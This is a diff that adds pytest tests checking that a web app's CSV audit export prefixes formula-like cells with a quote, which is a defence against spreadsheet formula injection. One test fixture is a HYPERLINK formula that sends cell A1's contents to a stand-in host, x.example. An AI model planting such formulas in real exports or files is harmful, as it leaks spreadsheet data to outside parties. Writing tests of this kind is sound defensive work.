@@ -257,6 +257,31 @@ def test_csv_export_streams_the_filtered_entries(client, login, admin, project, 
     assert prod["created_at"].startswith("2025-03-03T12:00:00")
 
 
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
+
+
+def test_csv_export_neutralises_formulas(client, login, admin, project, make):
+    make.feature(project, FORMULA, description="@SUM(1+1)")
+    login(client, admin)
+    response = client.get(url_for("audit.export", project_id=project.id))
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    [created] = [r for r in rows if r["event_type"] == "FEATURE_CREATED"]
+    assert created["object_label"] == "'" + FORMULA  # shown as text, not run
+    assert not [cell for row in rows for cell in row.values()
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("dark_mode", "dark_mode"), ("a=b", "a=b"),
+    ("", ""), (-5, -5), (None, None),
+])
+def test_csv_cells_that_could_be_formulas_get_a_quote(cell, written):
+    from webapp.csv_export import neutralise
+
+    assert neutralise(cell) == written
+
+
 def test_csv_export_refuses_invalid_filters_with_422(client, login, admin, project, world):
     login(client, admin)
     response = client.get(url_for("audit.export", project_id=project.id, since="not-a-date"))
